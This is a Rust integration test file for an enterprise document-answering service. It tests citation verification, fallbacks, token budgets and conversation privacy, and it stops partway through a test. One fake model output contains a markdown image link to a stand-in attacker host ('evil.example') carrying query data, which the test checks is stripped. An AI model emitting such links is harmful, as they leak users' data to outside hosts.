//! Generative answers: streaming, verified citations, fallbacks, conversations, feedback and
//! quotas. The real model (llama.cpp server + SmolLM2-135M-Instruct) wherever it can show the
//! behaviour; the scripted fake (see `llm.rs`) for protocol failures and exact model output.

use std::time::{Duration, Instant};

use docent::server::StartOptions;
use docent_proto::v1 as pb;
use tonic::Code;

use crate::harness::*;
use crate::llm::{FakeLlm, Script, real_llm};

const HR_QUESTION: &str = "What is the salary band for a senior software engineer?";
const HR_ONLY: &[&str] = &[
    "148,000",
    "172,000",
    "compensation-bands",
    "/hr/",
    "Compensation bands",
];

/// For tests that count a UTC day's usage (budgets, the admin's usage of today): waits past
/// midnight when it is under two minutes away, since the counters start again at UTC midnight
/// and a test that crossed it would find its budget unspent.
async fn away_from_utc_midnight() {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let left = 86_400 - now % 86_400;
    if left < 120 {
        tokio::time::sleep(Duration::from_secs(left + 1)).await;
    }
}

fn with_llm(env: &Env, url: &str, extra: &str) -> String {
    format!(
        "{}\n[llm]\nbase_url = {url:?}\nmodel = \"smollm2\"\nfirst_token_timeout_ms = 20000\ntotal_timeout_ms = 60000\nmax_tokens = 96\n{extra}",
        env.config_text()
    )
}

/// [`with_llm`], with general knowledge allowed for everyone.
fn with_llm_and_general_knowledge(env: &Env, url: &str) -> String {
    replaced(
        &with_llm(env, url, ""),
        "response_scope = \"enterprise_only\"",
        "response_scope = \"allow_general_knowledge\"",
    )
}

/// A daemon whose follow-ups the `fake` model rewrites; alice asks `first`, then `follow_up`
/// in the same conversation. Returns the daemon and the follow-up's answer.
async fn follow_up_with_llm_rewrite(
    env: &Env,
    fake: &FakeLlm,
    first: &str,
    follow_up: &str,
) -> (Running, pb::AskResponse) {
    follow_up_with_llm_rewrite_and(env, fake, "", first, follow_up).await
}

/// [`follow_up_with_llm_rewrite`] over the example corpus, the model rewriting the follow-up as
/// `rewrite`.
async fn follow_up_rewritten_as(
    rewrite: &str,
    first: &str,
    follow_up: &str,
) -> (FakeLlm, Env, Running, pb::AskResponse) {
    let fake = FakeLlm::start(Script::Write(vec![rewrite.into()])).await;
    let env = Env::example();
    let (d, r2) = follow_up_with_llm_rewrite(&env, &fake, first, follow_up).await;
    (fake, env, d, r2)
}

/// [`follow_up_with_llm_rewrite`] with `extra` appended to the `[llm]` section.
async fn follow_up_with_llm_rewrite_and(
    env: &Env,
    fake: &FakeLlm,
    extra: &str,
    first: &str,
    follow_up: &str,
) -> (Running, pb::AskResponse) {
    let config =
        with_llm(env, &fake.url, extra).replace("rewrite = \"heuristic\"", "rewrite = \"llm\"");
    assert!(config.contains("rewrite = \"llm\""));
    let d = env.start_with(env.config_from(&config)).await;
    let (_, r2) = d.ask_with_follow_up(ALICE, first, follow_up).await;
    (d, r2)
}

/// A fake model that writes a sentence of passage 1, then waits for [`FakeLlm::open_gate`]
/// before its second.
async fn gated_fake() -> FakeLlm {
    FakeLlm::start(Script::Gated(vec![
        "{p1} [1].".into(),
        "{p1.2} [1].".into(),
    ]))
    .await
}

const PARENTAL_LEAVE: &str = "How many days of parental leave do birth parents get?";

/// A daemon over the example corpus with a [`gated_fake`] model (`extra` in `[llm]`), and
/// hana's AskStream about parental leave once its first piece has arrived.
async fn streaming_while_the_model_waits(
    extra: &str,
) -> (FakeLlm, Env, Running, tonic::Streaming<pb::AskStreamEvent>) {
    let fake = gated_fake().await;
    let env = Env::example();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, extra)))
        .await;
    let mut stream = client(&d)
        .await
        .ask_stream(authed(HANA, generative(PARENTAL_LEAVE)))
        .await
        .unwrap()
        .into_inner();
    first_piece(&mut stream).await;
    (fake, env, d, stream)
}

/// Waits until the `fake` model is called (retrieval has found the passages); returns when the
/// wait began.
async fn wait_for_the_model(fake: &FakeLlm) -> std::time::Instant {
    let t = std::time::Instant::now();
    while fake.requests() == 0 {
        assert!(
            t.elapsed() < Duration::from_secs(30),
            "the model was not called"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    t
}

/// The first event of an AskStream is a piece, delivered while the model is still writing.
async fn first_piece(stream: &mut tonic::Streaming<pb::AskStreamEvent>) {
    let first = tokio::time::timeout(Duration::from_secs(30), stream.message())
        .await
        .expect("a piece while the model is still writing")
        .unwrap()
        .unwrap();
    assert!(
        matches!(first.event, Some(pb::ask_stream_event::Event::Piece(_))),
        "{first:?}"
    );
}

fn generative(question: &str) -> pb::AskRequest {
    pb::AskRequest {
        question: question.into(),
        mode: pb::AnswerMode::Generative as i32,
        ..Default::default()
    }
}

async fn client(d: &Running) -> pb::assistant_client::AssistantClient<tonic::transport::Channel> {
    pb::assistant_client::AssistantClient::new(d.channel().await)
}

/// Every citation is a document `token`'s user may read (per Search under the same identity,
/// which is scoped) and every sentence's citations exist.
async fn assert_citations_readable(d: &Running, token: &str, question: &str, r: &pb::AskResponse) {
    let readable = d.search(token, question, 100).await.unwrap();
    let keys: std::collections::BTreeSet<String> = readable
        .hits
        .iter()
        .map(|h| h.citation.as_ref().unwrap().document_key.clone())
        .collect();
    for c in &r.citations {
        assert!(keys.contains(&c.document_key), "{} is not readable", c.uri);
    }
    for s in &r.sentences {
        for &c in &s.citations {
            assert!((c as usize) < r.citations.len());
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_real_model_streams_verified_pieces_before_the_final_event() {
    let env = Env::example();
    let llm = real_llm();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &llm.url, "")))
        .await;
    let mut c = client(&d).await;
    let question = "How many days of parental leave do birth parents get?";
    let mut req = generative(question);
    req.new_conversation = true;
    let started = Instant::now();
    let mut stream = c.ask_stream(authed(HANA, req)).await.unwrap().into_inner();
    let (mut pieces, mut citations, mut fin) = (Vec::new(), Vec::new(), None);
    let mut first_piece_at = None;
    while let Some(ev) = stream.message().await.unwrap() {
        use pb::ask_stream_event::Event;
        match ev.event.unwrap() {
            Event::Piece(p) => {
                assert!(fin.is_none(), "a piece after the final event");
                first_piece_at.get_or_insert(started.elapsed());
                pieces.push(p);
            }
            Event::Citations(cs) => citations = cs.citations,
            Event::Final(f) => fin = Some((f, started.elapsed())),
        }
    }
    let (fin, final_at) = fin.expect("a final event");
    let details = fin.details.unwrap();
    assert_eq!(
        details.mode,
        pb::AnswerMode::Generative as i32,
        "{details:?}"
    );
    assert_eq!(details.fallback_reason, "");
    assert_eq!(fin.status, pb::AnswerStatus::Answered as i32, "{pieces:?}");
    assert!(first_piece_at.unwrap() < final_at);
    assert!(details.usage.unwrap().completion_tokens > 0);
    // Every piece cites a passage it was verified against; the pieces are the stored answer.
    for p in &pieces {
        assert!(!p.citations.is_empty() && !p.uncited, "{p:?}");
        for &ci in &p.citations {
            assert!((ci as usize) < citations.len());
        }
    }
    let conv = c
        .get_conversation(authed(
            HANA,
            pb::ConversationRequest {
                conversation_id: details.conversation_id.clone(),
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    let joined: Vec<String> = pieces
        .iter()
        .map(|p| {
            let marks: String = p
                .citations
                .iter()
                .map(|c| format!(" [{}]", c + 1))
                .collect();
            format!("{}{marks}", p.text)
        })
        .collect();
    assert_eq!(conv.turns[0].answer, joined.join(" "));
    assert_eq!(conv.turns[0].citations.len(), citations.len());
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fabricated_marker_is_dropped_and_an_unsupported_sentence_removed() {
    let fake = FakeLlm::start(Script::Write(vec![
        "{p1} [1].".into(),
        "{p1.2} [9].".into(),
        "The cafeteria serves free lobster to every visitor on Fridays [1].".into(),
    ]))
    .await;
    let env = Env::example();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
        .await;
    let question = "How many days of parental leave do birth parents get?";
    let r = client(&d)
        .await
        .ask(authed(HANA, generative(question)))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(r.status, pb::AnswerStatus::Answered as i32, "{r:?}");
    assert_eq!(
        r.details.as_ref().unwrap().mode,
        pb::AnswerMode::Generative as i32
    );
    assert!(!r.answer.contains("lobster"), "{}", r.answer);
    assert_eq!(r.sentences.len(), 2, "{:?}", r.sentences);
    let code = |c: &str| r.guardrails.iter().find(|v| v.code == c).map(|v| v.count);
    assert_eq!(code("UNGROUNDED_SENTENCE"), Some(1), "{:?}", r.guardrails);
    assert_eq!(
        code("UNKNOWN_CITATION_MARKER"),
        Some(1),
        "{:?}",
        r.guardrails
    );
    // The sentence with the bogus [9] is passage 1's text: Docent cites passage 1 for it.
    assert_eq!(code("CITATION_REATTRIBUTED"), Some(1), "{:?}", r.guardrails);
    assert_eq!(r.citations.len(), 1);
    assert_eq!(r.sentences[1].citations, [0]);
    assert_citations_readable(&d, HANA, question, &r).await;
    assert_eq!(fake.requests(), 1);
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn model_failures_fall_back_to_the_extractive_answer_flagged() {
    let fake = FakeLlm::start(Script::Status(500)).await;
    let env = Env::example();
    let text = with_llm(&env, &fake.url, "").replace(
        "first_token_timeout_ms = 20000",
        "first_token_timeout_ms = 700",
    );
    let d = env.start_with(env.config_from(&text)).await;
    let question = "How many days of parental leave do birth parents get?";
    let mut c = client(&d).await;
    // Whether the server may have spent tokens (it was reading the prompt or writing): then
    // an estimate counts against the budget, else failures would be free.
    for (script, reason, spent) in [
        (Script::Status(500), "LLM_ERROR", false),
        (Script::Stall, "LLM_TIMEOUT", true),
        (Script::Malformed, "LLM_ERROR", true),
    ] {
        fake.set(script);
        let r = c
            .ask(authed(HANA, generative(question)))
            .await
            .unwrap()
            .into_inner();
        let details = r.details.clone().unwrap();
        assert_eq!(details.fallback_reason, reason, "{r:?}");
        let prompt = details.usage.as_ref().map_or(0, |u| u.prompt_tokens);
        assert_eq!(prompt > 0, spent, "{reason}: {:?}", details.usage);
        assert_eq!(details.mode, pb::AnswerMode::Extractive as i32);
        assert_eq!(r.status, pb::AnswerStatus::Answered as i32, "{r:?}");
        assert!(!r.citations.is_empty());
    }
    d.stop().await;

    // Nothing listening: unavailable.
    let port = free_port();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &format!("http://127.0.0.1:{port}/v1"), "")))
        .await;
    let r = client(&d)
        .await
        .ask(authed(HANA, generative(question)))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(r.details.unwrap().fallback_reason, "LLM_UNAVAILABLE");
    assert_eq!(r.status, pb::AnswerStatus::Answered as i32);
    d.stop().await;
}

/// Found by a review: what the verifier caught in a model attempt that then failed (an image
/// link to another host, an unsupported sentence) was dropped with the attempt, so neither
/// the response nor the audit showed it; the extractive answer given instead carries it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_failed_model_attempt_wrote_is_still_reported() {
    let fake = FakeLlm::start(Script::WriteThenBreak(
        "Lobster is free ![x](http://evil.example/?d=leave) on Fridays [1].".into(),
    ))
    .await;
    let env = Env::example();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
        .await;
    let question = "How many days of parental leave do birth parents get?";
    let r = client(&d)
        .await
        .ask(authed(HANA, generative(question)))
        .await
        .unwrap()
        .into_inner();
    let details = r.details.clone().unwrap();
    assert_eq!(details.fallback_reason, "LLM_ERROR", "{r:?}");
    assert_eq!(details.mode, pb::AnswerMode::Extractive as i32);
    assert!(!r.answer.contains("evil") && !r.answer.contains("Lobster"));
    let codes: Vec<&str> = r.guardrails.iter().map(|v| v.code.as_str()).collect();
    assert!(codes.contains(&"LINK_REMOVED"), "{codes:?}");
    assert!(codes.contains(&"UNGROUNDED_SENTENCE"), "{codes:?}");
    // What the model wrote counts against the budget, removed or not (session 42's review:
    // only kept sentences were estimated, so this cost nothing).
    let usage = details.usage.unwrap();
    assert!(usage.estimated, "{usage:?}");
    assert!(usage.completion_tokens >= 10, "{usage:?}");
    d.stop().await;
}

/// A server that ignores `max_tokens` and never ends its stream: reading stops at what
/// `max_tokens` allows, and the verified answer so far is the answer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_that_never_stops_is_cut_at_max_tokens() {
    let fake = FakeLlm::start(Script::Endless("{p1} [1].".into())).await;
    let env = Env::example();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
        .await;
    let question = "How many days of parental leave do birth parents get?";
    let r = client(&d)
        .await
        .ask(authed(HANA, generative(question)))
        .await
        .unwrap()
        .into_inner();
    let details = r.details.clone().unwrap();
    assert_eq!(details.fallback_reason, "", "{r:?}");
    assert_eq!(details.mode, pb::AnswerMode::Generative as i32, "{r:?}");
    assert_eq!(r.status, pb::AnswerStatus::Answered as i32, "{r:?}");
    // Reading stopped: the usage counted from what was read stays within the byte cap Docent
    // allows a server that ignores max_tokens (64 KiB, about 4 bytes a token, plus the 96
    // asked for), where an endless stream read on would run past any bound.
    let usage = details.usage.unwrap();
    assert!(
        usage.completion_tokens > 0 && usage.completion_tokens <= (64 << 10) / 4 + 96,
        "{usage:?}"
    );
    assert_citations_readable(&d, HANA, question, &r).await;
    d.stop().await;
}

/// A model that asks back a passage's words and says it does not know has answered nothing,
/// even where general knowledge may be shown: none of it is kept, and the question gets the
/// extractive answer, as in extractive mode. (Before, the question passed the grounding check
/// as a cited sentence, and "I don't know." was kept as general knowledge; later the answer
/// was "not found" where the extractive answerer found one.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn questions_and_i_do_not_know_from_the_model_are_not_an_answer() {
    let fake = FakeLlm::start(Script::Write(vec![
        "Do you mean that {p1} [1]?".into(),
        "I don't know.".into(),
        "The provided passages do not state a number of days.".into(),
    ]))
    .await;
    let env = Env::example();
    let text = with_llm_and_general_knowledge(&env, &fake.url);
    let d = env.start_with(env.config_from(&text)).await;
    let r = client(&d)
        .await
        .ask(authed(
            HANA,
            generative("How many days of parental leave do birth parents get?"),
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(fake.requests(), 1);
    let details = r.details.clone().unwrap();
    assert_eq!(details.mode, pb::AnswerMode::Extractive as i32, "{r:?}");
    assert_eq!(details.fallback_reason, "LLM_UNVERIFIED", "{r:?}");
    for s in ["know", "Do you mean", "provided passages"] {
        assert!(!r.answer.contains(s), "{s:?} kept: {r:?}");
    }
    let extractive = d.ask(HANA, PARENTAL_LEAVE).await.unwrap();
    assert_eq!(r.answer, extractive.answer, "{r:?}");
    d.stop().await;
}

/// A model whose every sentence the passages do not support: the extractive answer instead,
/// flagged, with the removal audited (before: "not found" for a question the extractive
/// answerer answers).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_answer_with_no_supported_sentence_falls_back_to_the_extractive_answer() {
    let fake = FakeLlm::start(Script::Write(vec![
        "The cafeteria serves free lobster to every visitor on Fridays [1].".into(),
    ]))
    .await;
    let env = Env::example();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
        .await;
    let r = client(&d)
        .await
        .ask(authed(HANA, generative(PARENTAL_LEAVE)))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(fake.requests(), 1);
    assert_eq!(r.status, pb::AnswerStatus::Answered as i32, "{r:?}");
    assert!(!r.answer.contains("lobster"), "{r:?}");
    let details = r.details.clone().unwrap();
    assert_eq!(details.mode, pb::AnswerMode::Extractive as i32, "{r:?}");
    assert_eq!(details.fallback_reason, "LLM_UNVERIFIED", "{r:?}");
    assert!(
        r.guardrails
            .iter()
            .any(|v| v.code == "UNGROUNDED_SENTENCE" && v.count == 1),
        "{:?}",
        r.guardrails
    );
    assert_citations_readable(&d, HANA, PARENTAL_LEAVE, &r).await;
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn weak_evidence_is_not_found_without_calling_the_model() {
    let fake = FakeLlm::start(Script::Write(vec!["{p1} [1].".into()])).await;
    let env = Env::example();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
        .await;
    let r = client(&d)
        .await
        .ask(authed(
            ALICE,
            generative("What is the airspeed velocity of an unladen swallow?"),
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(r.status, pb::AnswerStatus::NoAnswer as i32, "{r:?}");
    assert_eq!(fake.requests(), 0);
    assert_eq!(r.details.unwrap().usage.unwrap().prompt_tokens, 0);
    d.stop().await;
}

/// A group's spent budget refuses its other members too, without telling them how much their
/// colleagues used (only an identity's own budget shows its figures).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_spent_group_budget_refuses_without_showing_the_group_s_usage() {
    away_from_utc_midnight().await;
    let fake = FakeLlm::start(Script::Write(vec!["{p1} [1].".into()])).await;
    let env = Env::example();
    let text = with_llm(
        &env,
        &fake.url,
        "[quotas]\ndaily_tokens_per_group = { staff = 50 }\n",
    );
    let d = env.start_with(env.config_from(&text)).await;
    let mut c = client(&d).await;
    let question = "How many days of parental leave do birth parents get?";
    c.ask(authed(HANA, generative(question))).await.unwrap();
    let e = c
        .ask(authed(ALICE, generative("How do I connect to the VPN?")))
        .await
        .unwrap_err();
    assert_eq!(reason(&e), "TOKEN_QUOTA_EXCEEDED");
    assert!(e.message().contains("group:staff"), "{e:?}");
    assert!(
        !e.message().chars().any(|c| c.is_ascii_digit()),
        "a group's figures: {e:?}"
    );
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_spent_token_budget_refuses_before_the_model_and_usage_is_reported() {
    away_from_utc_midnight().await;
    let fake = FakeLlm::start(Script::Write(vec!["{p1} [1].".into()])).await;
    let env = Env::example();
    let text = with_llm(
        &env,
        &fake.url,
        "price_prompt_per_1k = 0.5\nprice_completion_per_1k = 1.5\n[quotas]\ndaily_tokens_per_identity = 50\n",
    );
    let d = env.start_with(env.config_from(&text)).await;
    let question = "How many days of parental leave do birth parents get?";
    let mut c = client(&d).await;
    let r = c
        .ask(authed(HANA, generative(question)))
        .await
        .unwrap()
        .into_inner();
    let used = r.details.unwrap().usage.unwrap();
    assert_eq!(used.prompt_tokens, 100);
    let e = c.ask(authed(HANA, generative(question))).await.unwrap_err();
    assert_eq!(e.code(), Code::ResourceExhausted);
    assert_eq!(reason(&e), "TOKEN_QUOTA_EXCEEDED");
    assert!(e.message().contains("hana"), "{e:?}");
    assert_eq!(fake.requests(), 1, "the model was called over budget");
    // Extractive answers need no tokens and stay available.
    let mut ex = generative(question);
    ex.mode = pb::AnswerMode::Extractive as i32;
    assert!(c.ask(authed(HANA, ex)).await.is_ok());
    // `auto` answers extractively over the budget, saying why (session 34's review: it was
    // refused like `generative`, and channel answers of the Slack bridge ask in `auto`).
    let mut auto = generative(question);
    auto.mode = pb::AnswerMode::Auto as i32;
    let r = c.ask(authed(HANA, auto)).await.unwrap().into_inner();
    let details = r.details.unwrap();
    assert_eq!(details.mode, pb::AnswerMode::Extractive as i32);
    assert_eq!(details.fallback_reason, "TOKEN_QUOTA_EXCEEDED");
    assert_eq!(fake.requests(), 1, "the model was called over budget");
    // Another identity has its own budget.
    assert!(
        c.ask(authed(ALICE, generative("How do I connect to the VPN?")))
            .await
            .is_ok()
    );

    let mut admin = pb::admin_client::AdminClient::new(d.channel().await);
    let u = admin
        .usage(authed(ADMIN, pb::UsageRequest { days: 1 }))
        .await
        .unwrap()
        .into_inner();
    let hana = u.identities.iter().find(|i| i.identity == "hana").unwrap();
    assert_eq!(hana.prompt_tokens, 100);
    assert_eq!(hana.requests, 1);
    let want = 100.0 / 1000.0 * 0.5 + hana.completion_tokens as f64 / 1000.0 * 1.5;
    assert!((hana.estimated_cost - want).abs() < 1e-9, "{hana:?}");
    assert_eq!(
        reason(
            &admin
                .usage(authed(HANA, pb::UsageRequest { days: 1 }))
                .await
                .unwrap_err()
        ),
        "ADMIN_REQUIRED"
    );
    d.stop().await;
}

/// Requests in flight hold their most tokens against the budget: while one generative answer
/// is being written, a second request of the same identity that the budget cannot also cover
/// is refused before the model (before, both passed the check and both spent).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_requests_cannot_overspend_a_token_budget() {
    away_from_utc_midnight().await;
    let fake = gated_fake().await;
    let env = Env::example();
    // One request may spend up to the prompt budget and max_tokens (2,144 tokens here): while
    // one is in flight, a budget of 2,000 admits no other. Spent, it is ~100.
    let text = with_llm(
        &env,
        &fake.url,
        "[quotas]\ndaily_tokens_per_identity = 2000\n",
    );
    let d = env.start_with(env.config_from(&text)).await;
    let question = "How many days of parental leave do birth parents get?";
    let mut c = client(&d).await;
    let mut first = c
        .ask_stream(authed(HANA, generative(question)))
        .await
        .unwrap()
        .into_inner();
    first_piece(&mut first).await;
    let second = tokio::time::timeout(
        Duration::from_secs(10),
        c.ask(authed(HANA, generative(question))),
    )
    .await
    .expect("refused at once, not waiting on the model")
    .unwrap_err();
    assert_eq!(reason(&second), "TOKEN_QUOTA_IN_USE", "{second:?}");
    assert!(second.message().contains("in flight"), "{second:?}");
    assert_eq!(fake.requests(), 1);
    fake.open_gate();
    while first.message().await.unwrap().is_some() {}
    // The first request's reservation is released once its usage (far under the budget) is
    // recorded: the same identity may ask again.
    fake.open_gate();
    assert!(c.ask(authed(HANA, generative(question))).await.is_ok());
    d.stop().await;
}

/// The admin's usage line of `identity` once it shows `requests` requests (a request's usage
/// is recorded as it ends, which may be after the client has gone).
async fn usage_of(d: &Running, identity: &str, requests: u64) -> pb::IdentityUsage {
    let mut admin = pb::admin_client::AdminClient::new(d.channel().await);
    let t = std::time::Instant::now();
    loop {
        let u = admin
            .usage(authed(ADMIN, pb::UsageRequest { days: 1 }))
            .await
            .unwrap()
            .into_inner();
        let line = u.identities.into_iter().find(|i| i.identity == identity);
        match line {
            Some(l) if l.requests >= requests => return l,
            l => assert!(
                t.elapsed() < Duration::from_secs(15),
                "{identity}'s usage never showed {requests} requests: {l:?}"
            ),
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// A client that cancels a unary generative Ask while the model writes still has the call's
/// tokens counted, estimated (before, the handler was dropped before it recorded any usage,
/// so cancelling early spent tokens outside the budget), and the model is free for the next.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_ask_counts_its_tokens_and_frees_the_model() {
    away_from_utc_midnight().await;
    let fake = gated_fake().await;
    let env = Env::example();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "max_concurrent = 1\n")))
        .await;
    let question = "How many days of parental leave do birth parents get?";
    let mut c = client(&d).await;
    let asked = tokio::spawn(async move { c.ask(authed(HANA, generative(question))).await });
    wait_for_the_model(&fake).await;
    // The model has written its first sentence and waits; the client gives up.
    tokio::time::sleep(Duration::from_millis(300)).await;
    asked.abort();
    let hana = usage_of(&d, "hana", 1).await;
    assert!(hana.prompt_tokens > 0, "{hana:?}");
    // What the call answered before it was left is audited (found by a review: the audit ran
    // in the dropped handler).
    eventually(10, "the cancelled Ask is audited", || {
        let env = &env;
        async move { env.audit_records().iter().any(|r| r["method"] == "Ask") }
    })
    .await;
    fake.set(Script::Write(vec!["{p1} [1].".into()]));
    let r = tokio::time::timeout(
        Duration::from_secs(15),
        client(&d).await.ask(authed(HANA, generative(question))),
    )
    .await
    .expect("answered without waiting for the slot")
    .unwrap()
    .into_inner();
    assert_eq!(r.details.unwrap().mode, pb::AnswerMode::Generative as i32);
    d.stop().await;
}

/// Found by a review: a follow-up cancelled while the model rewrote it was charged nothing (the
/// charge was armed only once the rewrite returned), so cancelled follow-ups read the earlier
/// questions for free.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_follow_up_cancelled_while_the_model_rewrites_it_is_charged() {
    away_from_utc_midnight().await;
    let fake = FakeLlm::start(Script::Stall).await;
    let env = Env::example();
    let config =
        with_llm(&env, &fake.url, "").replace("rewrite = \"heuristic\"", "rewrite = \"llm\"");
    assert!(config.contains("rewrite = \"llm\""));
    let d = env.start_with(env.config_from(&config)).await;
    let mut c = client(&d).await;
    let first = c
        .ask(authed(
            ALICE,
            pb::AskRequest {
                question: "How many vacation days do employees get?".into(),
                new_conversation: true,
                mode: pb::AnswerMode::Extractive as i32,
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(fake.requests(), 0, "no model call for the first question");
    let conversation_id = first.details.unwrap().conversation_id;
    let asked = tokio::spawn(async move {
        c.ask(authed(
            ALICE,
            pb::AskRequest {
                question: "And contractors?".into(),
                conversation_id,
                mode: pb::AnswerMode::Extractive as i32,
                ..Default::default()
            },
        ))
        .await
    });
    wait_for_the_model(&fake).await;
    asked.abort();
    let alice = usage_of(&d, "alice", 1).await;
    assert!(alice.prompt_tokens > 0, "{alice:?}");
    d.stop().await;
}

/// A client that leaves an AskStream while the model writes ends the model call at once: its
/// concurrency slot is free for the next request (before, it was held until the model's next
/// piece, here never, so the next request waited for the slot and fell back to extractive).
/// The abandoned call's tokens are still counted, estimated.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn leaving_an_ask_stream_frees_the_model_for_the_next_request() {
    away_from_utc_midnight().await;
    let (fake, _env, d, first) = streaming_while_the_model_waits("max_concurrent = 1\n").await;
    let question = PARENTAL_LEAVE;
    let mut c = client(&d).await;
    drop(first);
    // The stalled call would never write again: the next request gets the model only if the
    // abandoned call let go of it.
    fake.set(Script::Write(vec!["{p1} [1].".into()]));
    let r = tokio::time::timeout(
        Duration::from_secs(15),
        c.ask(authed(HANA, generative(question))),
    )
    .await
    .expect("answered without waiting for the slot")
    .unwrap()
    .into_inner();
    assert_eq!(r.status, pb::AnswerStatus::Answered as i32, "{r:?}");
    let details = r.details.unwrap();
    assert_eq!(
        details.mode,
        pb::AnswerMode::Generative as i32,
        "{details:?}"
    );
    assert_eq!(fake.requests(), 2);
    // Both calls are counted: the answered one as the fake reported (100 prompt tokens), the
    // abandoned one estimated from its prompt.
    let hana = usage_of(&d, "hana", 2).await;
    assert!(hana.prompt_tokens > 100, "{hana:?}");
    d.stop().await;
}

/// Session 43's review: a service acting for a person or an audience reached every
/// conversation held under that name, so any service with `act_as` read the questions of every
/// Slack channel answered as the `everyone` audience. A conversation held through a service
/// belongs to the pair: neither the person alone nor another service sees it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_conversation_held_through_a_service_is_the_pairs_alone() {
    let env = Env::example();
    // A second service that may act for anyone.
    let other = "other-service-key";
    let text = env.config_text()
        + &format!(
            "\n[[identities]]\nid = \"other-service\"\nact_as = true\ntoken_sha256 = \"{}\"\n",
            hex::encode(docent::identity::token_hash(other))
        );
    let d = env.start_with(env.config_from(&text)).await;
    let mut c = client(&d).await;
    let bridge = "slack-bridge-dev-key";
    let as_ = |who: &str, q: &str| pb::AskRequest {
        question: q.into(),
        new_conversation: true,
        on_behalf_of: who.into(),
        ..Default::default()
    };
    let listed = |on_behalf_of: &str| pb::ListConversationsRequest {
        on_behalf_of: on_behalf_of.into(),
        ..Default::default()
    };
    for who in ["alice", "everyone"] {
        let r = c
            .ask(authed(bridge, as_(who, "How do I connect to the VPN?")))
            .await
            .unwrap()
            .into_inner();
        let id = r.details.unwrap().conversation_id;
        assert!(!id.is_empty());
        // Rated through the same service.
        c.feedback(authed(
            bridge,
            pb::FeedbackRequest {
                conversation_id: id,
                turn: 0,
                up: true,
                on_behalf_of: who.into(),
                ..Default::default()
            },
        ))
        .await
        .unwrap();
        let seen = c
            .list_conversations(authed(bridge, listed(who)))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(seen.conversations.len(), 1, "{who}, through the bridge");
        let elsewhere = c
            .list_conversations(authed(other, listed(who)))
            .await
            .unwrap()
            .into_inner();
        assert!(
            elsewhere.conversations.is_empty(),
            "{who}, through another service"
        );
    }
    // alice herself does not see the one the bridge holds for her.
    let own = c
        .list_conversations(authed(ALICE, listed("")))
        .await
        .unwrap()
        .into_inner();
    assert!(own.conversations.is_empty(), "{own:?}");
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conversations_belong_to_their_owner_and_feedback_is_exported() {
    let env = Env::example();
    let d = env.start().await;
    let mut c = client(&d).await;
    let (r, r2) = d
        .ask_with_follow_up(ALICE, "How do I connect to the VPN?", "And from a phone?")
        .await;
    let id = r.details.unwrap().conversation_id;
    assert_eq!(id.len(), 32);
    let req = pb::AskRequest {
        question: "And from a phone?".into(),
        conversation_id: id.clone(),
        ..Default::default()
    };
    // A follow-up is rewritten from the earlier question.
    let d2 = r2.details.unwrap();
    assert_eq!(d2.turn, 1);
    assert_eq!(
        d2.rewritten_question,
        "How do I connect to the VPN? And from a phone?"
    );

    // Another identity: NOT_FOUND everywhere, exactly like an unknown id.
    let e = c.ask(authed(HANA, req.clone())).await.unwrap_err();
    assert_eq!(
        (e.code(), reason(&e).as_str()),
        (Code::NotFound, "CONVERSATION_NOT_FOUND")
    );
    let get = |id: &str| pb::ConversationRequest {
        conversation_id: id.into(),
        ..Default::default()
    };
    let e = c
        .get_conversation(authed(HANA, get(&id)))
        .await
        .unwrap_err();
    assert_eq!(e.code(), Code::NotFound);
    let unknown = c
        .get_conversation(authed(HANA, get("0123")))
        .await
        .unwrap_err();
    assert_eq!(
        e.message().replace(&id, "X"),
        unknown.message().replace("0123", "X")
    );
    assert!(c.delete_conversation(authed(HANA, get(&id))).await.is_err());
    let fb = |up| pb::FeedbackRequest {
        conversation_id: id.clone(),
        turn: 1,
        up,
        reasons: vec![pb::FeedbackReason::Incomplete as i32],
        comment: "needs the mobile app name".into(),
        ..Default::default()
    };
    assert_eq!(
        c.feedback(authed(HANA, fb(false)))
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );
    let listed = c
        .list_conversations(authed(HANA, pb::ListConversationsRequest::default()))
        .await
        .unwrap()
        .into_inner();
